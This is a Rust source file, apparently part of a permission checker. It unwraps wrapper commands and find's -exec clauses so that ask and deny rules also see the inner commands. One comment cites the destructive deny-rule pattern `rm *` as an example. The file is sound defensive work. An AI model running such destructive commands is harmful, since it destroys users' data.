fn wrapped_start(g: &Grammar, args: &[String]) -> Result<(usize, Vec<String>), String> {
    let mut i = 0;
    let mut assignments = Vec::new();
    let mut positional = g.positional;
    while let Some(w) = args.get(i) {
        if w == "--" {
            i += 1;
            break;
        }
        if let Some(long) = w.strip_prefix("--") {
            let name = long.split('=').next().unwrap_or(long);
            let takes = g
                .long_with_value
                .iter()
                .any(|l| l.trim_start_matches("--") == name);
            let flag = g
                .long_flags
                .iter()
                .any(|l| l.trim_start_matches("--") == name);
            if !takes && !flag {
                return Err(format!("`{}` option `--{name}` is not known", g.name));
            }
            i += if takes && !long.contains('=') { 2 } else { 1 };
            continue;
        }
        if w.len() > 1 && w.starts_with('-') {
            // A cluster of short options; one that takes a value ends it.
            let chars = w[1..].char_indices();
            let mut used_next = false;
            for (at, c) in chars {
                if g.with_value.contains(c) {
                    used_next = at + 1 + c.len_utf8() > w.len() - 1;
                    break;
                }
                if g.name == "nice" && c.is_ascii_digit() {
                    break;
                }
                if !g.flags.contains(c) {
                    return Err(format!("`{}` option `-{c}` is not known", g.name));
                }
            }
            i += if used_next { 2 } else { 1 };
            continue;
        }
        if g.assignments && w.contains('=') && !w.starts_with('=') {
            assignments.push(w.clone());
            i += 1;
            continue;
        }
        if positional > 0 {
            positional -= 1;
            i += 1;
            continue;
        }
        break;
    }
    Ok((i, assignments))
}

/// Adds to `part` the forms ask and deny rules also match, and pushes the commands its wrappers
/// run as parts of their own.
fn unwrap(words: &[String], assignments: &[String], part: &mut Part, inner: &mut Vec<Part>) {
    let mut also = Vec::new();
    if let Some(first) = words.first() {
        let bare = words.join(" ");
        if !assignments.is_empty() {
            also.push(bare);
        }
        if basename(first) != first {
            let mut b = vec![basename(first).to_owned()];
            b.extend(words[1..].iter().cloned());
            also.push(b.join(" "));
        }
    }
    let mut rest: &[String] = words;
    let mut extra_assignments: Vec<String> = assignments.to_vec();
    let mut opaque = part.opaque.clone();
    let mut depth = 0;
    while let Some((first, tail)) = rest.split_first() {
        depth += 1;
        let Some(g) = GRAMMARS.iter().find(|g| g.name == basename(first)) else {
            break;
        };
        if depth > MAX_DEPTH {
            break;
        }
        // Every later word could be where the command starts: ask and deny rules see each.
        for start in 0..tail.len() {
            let cand = tail[start..].join(" ");
            also.push(cand.clone());
            let name = basename(&tail[start]);
            if name != tail[start] {
                let mut b = vec![name.to_owned()];
                b.extend(tail[start + 1..].iter().cloned());
                also.push(b.join(" "));
            }
        }
        match wrapped_start(g, tail) {
            Ok((start, assigned)) => {
                rest = tail.get(start..).unwrap_or(&[]);
                if rest.is_empty() {
                    break;
                }
                extra_assignments.extend(assigned);
                let why = if g.adds_arguments {
                    Some(format!("`{}` adds arguments read from its input", g.name))
                } else {
                    opaque.clone()
                };
                let mut text: Vec<&str> = extra_assignments.iter().map(String::as_str).collect();
                text.extend(rest.iter().map(String::as_str));
                let mut p = Part {
                    text: text.join(" "),
                    assignments: extra_assignments.clone(),
                    redirects: Vec::new(),
                    also: Vec::new(),
                    opaque: why.clone(),
                };
                if !extra_assignments.is_empty() {
                    p.also.push(rest.join(" "));
                }
                if g.adds_arguments {
                    // The arguments it will add, for deny rules such as `rm *`.
                    p.also.push(format!("{} …", rest.join(" ")));
                }
                if let Some(f) = rest.first().filter(|f| basename(f) != f.as_str()) {
                    let mut b = vec![basename(f).to_owned()];
                    b.extend(rest[1..].iter().cloned());
                    p.also.push(b.join(" "));
                }
                opaque = why;
                inner.push(p);
            }
            Err(why) => {
                part.opaque.get_or_insert(why);
                break;
            }
        }
    }
    also.retain(|a| *a != part.text);
    also.dedup();
    part.also = also;
    // find's -exec/-execdir/-ok run a command of their own.
    if words.first().is_some_and(|w| basename(w) == "find") {
        let mut i = 0;
        while i < words.len() {
            if matches!(words[i].as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                let end = words[i + 1..]
                    .iter()
                    .position(|w| w == ";" || w == "+")
                    .map_or(words.len(), |e| i + 1 + e);
                let cmd = &words[i + 1..end];
                if !cmd.is_empty() {
                    let mut p = Part::opaque(cmd.join(" "), "`find` adds the file names it finds");
                    if let Some(f) = cmd.first().filter(|f| basename(f) != f.as_str()) {
                        let mut b = vec![basename(f).to_owned()];
                        b.extend(cmd[1..].iter().cloned());
                        p.also.push(b.join(" "));
                    }
                    inner.push(p);
                }
                i = end;
            }
            i += 1;
        }
    }
}

#[cfg(test)]
mod tests;
